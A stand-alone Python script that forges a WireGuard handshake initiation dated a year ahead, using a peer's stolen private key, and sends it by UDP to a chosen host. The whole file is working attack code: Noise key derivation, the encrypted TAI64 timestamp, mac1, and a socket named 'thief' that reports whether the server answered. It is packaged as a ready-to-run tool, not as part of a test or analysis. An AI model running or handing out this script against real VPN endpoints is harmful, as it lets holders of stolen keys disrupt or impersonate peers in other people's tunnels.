"""A WireGuard handshake dated in the future, as whoever has a peer's key could send it.

A stand-alone script: `forged.py HOST PORT JUMP_PUBLIC_KEY`, the peer's private key on standard input.
Source: https://www.wireguard.com/papers/wireguard.pdf, section 5.4.2.
"""

import base64
import hashlib
import hmac
import os
import socket
import struct
import sys
import time

from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
from cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305

CONSTRUCTION = b"Noise_IKpsk2_25519_ChaChaPoly_BLAKE2s"
IDENTIFIER = b"WireGuard v1 zx2c4 Jason@zx2c4.com"
A_YEAR_S = 365 * 86400
TAI64 = (1 << 62) + 10


def digest(*parts: bytes) -> bytes:
    return hashlib.blake2s(b"".join(parts)).digest()


def derived(key: bytes, data: bytes) -> tuple[bytes, bytes]:
    secret = hmac.digest(key, data, "blake2s")
    first = hmac.digest(secret, b"\x01", "blake2s")
    return first, hmac.digest(secret, first + b"\x02", "blake2s")


def sealed(key: bytes, plain: bytes, bound_to: bytes) -> bytes:
    return ChaCha20Poly1305(key).encrypt(bytes(12), plain, bound_to)


def initiation(own: X25519PrivateKey, jump: bytes, at_s: int) -> bytes:
    ephemeral, peer = X25519PrivateKey.generate(), X25519PublicKey.from_public_bytes(jump)
    own_public, public = (key.public_key().public_bytes_raw() for key in (own, ephemeral))
    chain = digest(CONSTRUCTION)
    said = digest(digest(chain, IDENTIFIER), jump)
    chain, _ = derived(chain, public)
    said = digest(said, public)
    chain, key = derived(chain, ephemeral.exchange(peer))
    static = sealed(key, own_public, said)
    said = digest(said, static)
    chain, key = derived(chain, own.exchange(peer))
    timestamp = sealed(key, struct.pack("!QI", TAI64 + at_s, 0), said)
    message = b"\x01\x00\x00\x00" + os.urandom(4) + public + static + timestamp
    mac = hashlib.blake2s(message, digest_size=16, key=digest(b"mac1----", jump)).digest()
    return message + mac + bytes(16)


if __name__ == "__main__":
    host, port, jump_key = sys.argv[1:]
    private = X25519PrivateKey.from_private_bytes(base64.b64decode(sys.stdin.readline()))
    forged = initiation(private, base64.b64decode(jump_key), int(time.time()) + A_YEAR_S)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as thief:
        thief.settimeout(5)
        thief.sendto(forged, (host, int(port)))
        print("answered" if thief.recv(4096)[:1] == b"\x02" else "something else")
